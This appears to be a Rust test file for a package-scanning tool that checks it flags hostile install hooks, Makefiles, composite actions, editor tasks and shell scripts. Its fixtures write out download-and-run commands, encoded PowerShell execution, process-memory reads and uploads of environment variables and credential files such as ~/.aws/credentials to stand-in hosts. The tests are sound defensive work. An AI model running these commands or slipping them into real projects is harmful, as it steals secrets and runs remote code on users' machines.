//! What starts scripts: hooks, builds, actions, editors; and what they start.

#![expect(clippy::unwrap_used, reason = "test code")]

mod common;

use common::{all_show, analyse, found, has};
use packguard_sdk::Severity::{Critical, High, Low, Medium};

#[test]
fn scripts_that_others_start_are_followed() {
    // A batch file that a hook starts, and what that starts.
    let analysis = analyse(&[
        (
            "package/package.json",
            r#"{"scripts": {"preinstall": "call .\\build\\prepare.bat"}}"#,
        ),
        (
            "package/build/prepare.bat",
            "powershell -File \"%~dp0\\common.ps1\"",
        ),
        (
            "package/build/common.ps1",
            "$d = Join-Path $env:APPDATA 'Agent'\nInvoke-WebRequest https://a.example/a.zip -OutFile \"$d\\a.zip\"\nExpand-Archive \"$d\\a.zip\" $d -Force\nStart-Process \"$d\\agent.exe\"",
        ),
    ]);
    assert!(
        has(&analysis, "script-download-run", High),
        "{:?}",
        found(&analysis)
    );
    // A Makefile, by whoever runs `make`.
    let recipe = "all:\n\tcurl -s https://a.example/x | sh\n";
    let made = |setup: &str| analyse(&[("a-1/setup.py", setup), ("a-1/Makefile", recipe)]);
    assert!(has(
        &made("subprocess.call(['make', '-s'])"),
        "script-download-run",
        High
    ));
    assert!(!has(
        &made("setup(name='a')"),
        "script-download-run",
        Medium
    ));
}

#[test]
fn the_steps_of_an_action_run_for_who_uses_it() {
    let text = "runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        env > /tmp/e\n        curl --data-binary @/tmp/e https://a.example/x\n";
    assert!(has(
        &analyse(&[("a-1/action.yml", text)]),
        "script-upload",
        Critical
    ));
}

#[test]
fn templates_of_hooks_and_tasks_are_read() {
    let hook = "#!/bin/sh\ncat ~/.git-credentials | curl -s --data-binary @- https://a.example/g\n";
    assert!(has(
        &analyse(&[("package/templates/hook.txt", hook)]),
        "script-upload",
        High
    ));
    let tasks = r#"{"tasks": [{"command": "curl -L https://a.example/x | sh", "runOptions": {"runOn": "folderOpen"}}]}"#;
    let analysis = analyse(&[("package/tasks.sample.json", tasks)]);
    assert!(
        has(&analysis, "script-download-run", High),
        "{:?}",
        found(&analysis)
    );
}

#[test]
fn what_functions_print_is_followed_into_what_they_send() {
    let text = "collect() {\n  env\n  cat ~/.aws/credentials\n}\ndeliver() {\n  wget -q --post-file=- https://a.example/d\n}\ncollect | deliver\n";
    assert!(has(&analyse(&[("a.sh", text)]), "script-upload", High));
    let honest = "show() {\n  cat README.md\n}\nsend() {\n  curl --data-binary @- https://a.example/d\n}\nshow | send\n";
    assert!(!has(&analyse(&[("a.sh", honest)]), "script-upload", Medium));
}

#[test]
fn commands_from_elsewhere_are_found() {
    let text = "set /p E=<\"%~dp0enc.txt\"\npowershell -nop -w hidden -ec %E%\n";
    let init = "subprocess.Popen(['cmd.exe', '/c', 'run.cmd'])";
    let analysis = analyse(&[("a/__init__.py", init), ("a/run.cmd", text)]);
    assert!(
        has(&analysis, "script-decode-run", High),
        "{:?}",
        found(&analysis)
    );
    all_show(
        "a.sh",
        "script-download-run",
        High,
        &["curl -s https://a.example/x.py | python3 -"],
    );
    let known = analyse(&[(
        "a.sh",
        "curl -sSL https://install.python-poetry.org | python3 -",
    )]);
    assert!(!has(&known, "script-download-run", Low));
    let filter = analyse(&[(
        "a.sh",
        "curl -s https://a.example/x.json | python3 -m json.tool",
    )]);
    assert!(!has(&filter, "script-download-run", Medium));
}

#[test]
fn memory_that_is_read_by_a_document_is_found() {
    let text = "cat > /tmp/p.py <<'PY'\np = pid('Runner.' + 'Worker')\nwith open(f'/proc/{p}/maps') as m, open(f'/proc/{p}/mem', 'rb') as f:\n    f.seek(1)\nPY\nsudo python3 /tmp/p.py\n";
    assert!(has(
        &analyse(&[("install.sh", text)]),
        "script-memory",
        Critical
    ));
}

#[test]
fn a_one_liner_that_writes_what_is_started_is_found() {
    let code =
        "import urllib.request as u;open('.d','wb').write(u.urlopen('https://a.example/d').read())";
    let text = |run: &str| format!("python3 -c \"{code}\" && chmod +x .d && {run}\n");
    assert!(has(
        &analyse(&[("install.sh", &text("./.d &"))]),
        "script-download-run",
        Low
    ));
    assert!(!has(
        &analyse(&[("install.sh", &text("./other"))]),
        "script-download-run",
        Low
    ));
}

#[test]
fn what_is_gathered_in_a_folder_is_followed_into_what_is_made_of_it() {
    let script = |from: &str| {
        format!(
            "d=$(mktemp -d)\nfor f in {from}; do\n  cp \"$f\" \"$d/x\"\ndone\ntar czf \"$d.tgz\" -C \"$d\" .\ncurl -s --data-binary \"@$d.tgz\" https://c.example/\n"
        )
    };
    let action = "runs:\n  using: composite\n  steps:\n    - run: $GITHUB_ACTION_PATH/entry.sh\n";
    let of = |from: &str| {
        analyse(&[
            ("a-1/action.yml", action),
            ("a-1/entry.sh", script(from).as_str()),
        ])
    };
    assert!(has(
        &of("~/.aws/credentials ~/.npmrc"),
        "script-upload",
        Critical
    ));
    assert!(!has(&of("coverage/*.xml"), "script-upload", Medium));
}

#[test]
fn a_download_whose_signature_is_checked_weighs_less() {
    let action = "runs:\n  using: composite\n  steps:\n    - run: $GITHUB_ACTION_PATH/get.sh\n";
    let of = |check: &str| {
        let script = format!(
            "set -e\ncurl -fsSLO https://cli.c.example/v1/tool\n{check}\nchmod +x tool\n./tool upload\n"
        );
        analyse(&[("a-1/action.yml", action), ("a-1/get.sh", script.as_str())])
    };
    let grave = |check: &str| has(&of(check), "script-download-run", High);
    assert!(!grave("gpgv tool.sig tool"));
    let sum = "0123456789abcdef".repeat(4);
    assert!(!grave(&format!("echo \"{sum}  tool\" | sha256sum -c -")));
    // A checksum that comes from the same place proves nothing, nor does a check that is ignored.
    assert!(grave(
        "curl -fsSLO https://cli.c.example/v1/tool.sha256\nsha256sum -c tool.sha256"
    ));
    assert!(grave("gpgv tool.sig tool || true"));
}
